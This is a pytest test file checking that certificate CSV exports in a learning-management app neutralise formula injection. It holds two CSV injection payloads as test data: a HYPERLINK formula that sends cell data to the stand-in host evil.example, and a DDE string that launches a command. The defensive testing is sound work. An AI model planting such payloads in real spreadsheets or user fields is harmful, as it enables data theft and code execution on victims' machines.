"""Certificate CSVs (expiring list, bulk-export register) neutralise formula-shaped names."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from sqlalchemy import select

from lms.certificates import services
from lms.certificates.models import Certificate
from lms.core.models import utcnow
from lms.extensions import db
from tests.certificates.test_export import read_zip

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def issue_to_evil(w) -> Certificate:
    w.learners[0].display_name = EVIL
    w.cohort.name = "+cmd|' /C calc'!A0"
    services.update_settings(program=w.program, template_key="default", validity_months=12,
                             renewal_lead_days=30, refresher_cohort=None, accent_color=None)
    db.session.commit()
    w.complete(w.enrollments[0])
    cert = db.session.scalar(select(Certificate))
    cert.valid_until = utcnow() + timedelta(days=10)
    db.session.commit()
    return cert


def test_expiring_csv_neutralises_learner_and_cohort(cert_world, client, login):
    issue_to_evil(cert_world)
    login(cert_world.hr)
    response = client.get("/o/acme/certificates/expiring.csv?days=30")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    (row,) = csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")))
    assert row["learner"] == "'" + EVIL
    assert row["cohort"] == "'+cmd|' /C calc'!A0"


def test_bulk_export_register_neutralises_learner(cert_world, runner, tmp_path):
    issue_to_evil(cert_world)
    out = tmp_path / "export.zip"
    result = runner.invoke(args=["export-certificates", "--org", "acme", "--out", str(out)])
    assert result.exit_code == 0, result.output
    _names, register = read_zip(out)
    assert [r["learner"] for r in register] == ["'" + EVIL]
